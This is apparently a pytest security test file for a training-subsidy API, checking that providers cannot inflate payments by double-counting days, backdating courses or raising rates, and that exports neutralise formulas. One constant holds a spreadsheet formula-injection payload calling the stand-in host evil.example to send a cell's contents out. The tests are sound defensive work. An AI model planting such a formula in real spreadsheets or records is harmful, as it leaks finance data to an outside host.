"""Training subsidies: a provider trying to make the ledger pay more than the people attended, and
a course title that would run as a formula in the finance office's spreadsheet. Each test is the
attack as a provider's account makes it through the API, and expects it to give nothing."""
import io
from datetime import date, timedelta

from openpyxl import load_workbook

from core.models import china_today
from tests.conftest import VILLAGE
from tests.security.test_spreadsheets import formulas_in
from tests.training.conftest import dated_course

LINK = '=HYPERLINK("http://evil.example/?x="&C2,"点击")'


def course(provider, rate=100, days=None, **fields) -> int:
    """A night class from today for a month, or on the days given (None: no dates)."""
    today = china_today()
    body = {"title": "焊工培训", "provider": "县职业技术学校", "skills_taught": ["焊工"], "mode": "night",
            "capacity": 10, "starts_on": today.isoformat(), "ends_on": (today + timedelta(days=30)).isoformat(),
            "subsidy_per_day": rate, **fields}
    response = provider.post("/api/v1/courses", json=body)
    assert response.status_code == 201, response.json
    return response.json["id"]


def session(provider, course_id, day: date, hours=("19:00", "21:00")):
    return provider.post(f"/api/v1/courses/{course_id}/sessions",
                         json={"day": day.isoformat(), "starts_at": hours[0], "ends_at": hours[1]})


def attended(provider, station, course_id, session_id, worker_id) -> int:
    """The station enrols the person; the provider marks them present."""
    enrolled = station.post(f"/api/v1/courses/{course_id}/enrollments", json={"worker_id": worker_id})
    assert enrolled.status_code == 201, enrolled.json
    marked = provider.put(f"/api/v1/sessions/{session_id}/attendance", json={"present": [enrolled.json["id"]]})
    assert marked.status_code == 200, marked.json
    return enrolled.json["id"]


def test_one_day_in_two_courses_is_paid_once(api_as, make_worker):
    provider, station, person = api_as("provider"), api_as("station", [VILLAGE]), make_worker()
    today = china_today()
    morning, evening = course(provider, rate=100, mode="onsite"), course(provider, rate=80, title="电工培训")
    attended(provider, station, morning, session(provider, morning, today, ("08:00", "11:00")).json["id"], person)
    attended(provider, station, evening, session(provider, evening, today).json["id"], person)

    for reader in (provider, station):
        ledger = reader.get("/api/v1/training/subsidies").json
        assert [(x["course_id"], x["days"], x["amount"]) for x in ledger["people"]] == [(morning, 1, 100)]
        assert ledger["total"] == 100 and [h["amount"] for h in ledger["households"]] == [100]
    assert provider.get("/api/v1/training/subsidies", query_string={"course_id": evening}).json["total"] == 0


def test_a_session_outside_the_course_dates_is_refused(api_as):
    provider = api_as("provider")
    dated, undated = course(provider), course(provider, starts_on=None, ends_on=None)
    for course_id in (dated, undated):
        refused = session(provider, course_id, date(1900, 1, 1))
        assert refused.status_code == 422 and "day" in refused.json["error"]["fields"]
        assert provider.get(f"/api/v1/courses/{course_id}").json["sessions"] == []
    # nor can the dates move away from a session once it is there
    assert session(provider, dated, china_today()).status_code == 201
    moved = provider.patch(f"/api/v1/courses/{dated}", json={"starts_on": "2099-01-01", "ends_on": "2099-12-31"})
    assert moved.status_code == 422 and set(moved.json["error"]["fields"]) == {"starts_on"}


def test_a_course_dated_back_gets_no_register_to_pay_on(api_as, make_worker, app, monkeypatch):
    """With the session inside the dates, the provider dates the whole course back instead: a new
    course is not dated in the past, nor are a course's dates moved there; and on a course that has
    run that long, a session long past cannot be added, nor its attendance taken, so no such day is
    paid."""
    provider, station = api_as("provider"), api_as("station", [VILLAGE])
    today = china_today()
    dated_back = {"starts_on": "1900-01-01", "ends_on": (today + timedelta(days=30)).isoformat()}
    refused = provider.post("/api/v1/courses", json={"title": "焊工培训", "provider": "县职业技术学校", "mode": "night",
                                                     "capacity": 10, "subsidy_per_day": 100, **dated_back})
    assert refused.status_code == 422 and set(refused.json["error"]["fields"]) == {"starts_on"}
    moved = provider.patch(f"/api/v1/courses/{course(provider)}", json={"starts_on": "1900-01-01"})
    assert moved.status_code == 422 and set(moved.json["error"]["fields"]) == {"starts_on"}
    back = dated_course(provider, rolling_admission=True, **dated_back)  # as if it had run since then
    refused = session(provider, back, date(1900, 1, 1))
    assert refused.status_code == 422 and "day" in refused.json["error"]["fields"]
    lately = today - timedelta(days=app.config["ATTENDANCE_GRACE_DAYS"])
    assert session(provider, back, lately).status_code == 201  # within the grace: still a register
    held = session(provider, back, today - timedelta(days=3)).json["id"]
    monkeypatch.setitem(app.config, "ATTENDANCE_GRACE_DAYS", 2)  # the session is now older than the grace
    enrolled = station.post(f"/api/v1/courses/{back}/enrollments", json={"worker_id": make_worker()})
    marked = provider.put(f"/api/v1/sessions/{held}/attendance", json={"present": [enrolled.json["id"]]})
    assert marked.status_code == 409 and "day" in marked.json["error"]["fields"]
    assert station.get("/api/v1/training/subsidies").json["total"] == 0


def test_the_rate_cannot_be_raised_once_attendance_is_recorded(api_as, make_worker):
    provider, station = api_as("provider"), api_as("station", [VILLAGE])
    course_id = course(provider, rate=100)
    attended(provider, station, course_id, session(provider, course_id, china_today()).json["id"], make_worker())

    raised = provider.patch(f"/api/v1/courses/{course_id}", json={"subsidy_per_day": 10000})
    assert raised.status_code == 409 and "subsidy_per_day" in raised.json["error"]["fields"]
    assert provider.get(f"/api/v1/courses/{course_id}").json["subsidy_per_day"] == 100
    assert station.get("/api/v1/training/subsidies").json["total"] == 100


def test_a_course_titled_as_a_formula_is_text_in_the_subsidy_export(api_as, make_worker):
    provider, station = api_as("provider"), api_as("station", [VILLAGE])
    course_id = course(provider, rate=50, title=LINK)
    attended(provider, station, course_id, session(provider, course_id, china_today()).json["id"], make_worker())

    for reader in (provider, station):
        download = reader.get("/api/v1/training/subsidies/export")
        assert download.status_code == 200
        assert formulas_in(download.data) == []
        title = load_workbook(io.BytesIO(download.data))["按人"]["D2"]
        assert title.value == LINK and title.data_type == "s"
